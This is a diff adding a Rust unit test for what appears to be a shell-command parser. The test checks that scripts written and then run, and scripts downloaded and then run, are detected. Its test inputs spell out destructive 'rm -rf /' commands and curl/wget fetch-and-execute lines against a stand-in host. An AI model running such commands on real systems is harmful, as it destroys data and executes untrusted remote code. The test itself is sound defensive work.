@@ -233,3 +233,24 @@ fn normal_form_is_stable() {
         assert_eq!(parse(&once).normalized(), once, "{input}");
     }
 }
+
+#[test]
+fn scripts_the_line_writes_are_read_when_it_runs_them() {
+    for input in [
+        "echo 'rm -rf /' > /tmp/x.sh && bash /tmp/x.sh",
+        "printf 'rm -rf /\\n' > x.sh; sh ./x.sh",
+        "cat > x.sh <<EOF\nrm -rf /\nEOF\nchmod +x x.sh && ./x.sh",
+        "echo 'rm -rf /' | tee x.sh; source x.sh",
+    ] {
+        assert!(runs(input, "rm -rf /"), "{input}: {:?}", parse(input));
+    }
+    assert!(!runs("echo 'rm -rf /' > notes.txt", "rm -rf /"));
+    for downloaded in [
+        "curl -o i.sh https://x.example/i.sh && bash i.sh",
+        "curl https://x.example/i.sh > i.sh; sh ./i.sh",
+        "wget https://x.example/i.sh && chmod +x i.sh && ./i.sh",
+        "wget -O /tmp/i https://x.example/i; . /tmp/i",
+    ] {
+        assert!(parse(downloaded).opaque.is_some(), "{downloaded}");
+    }
+}
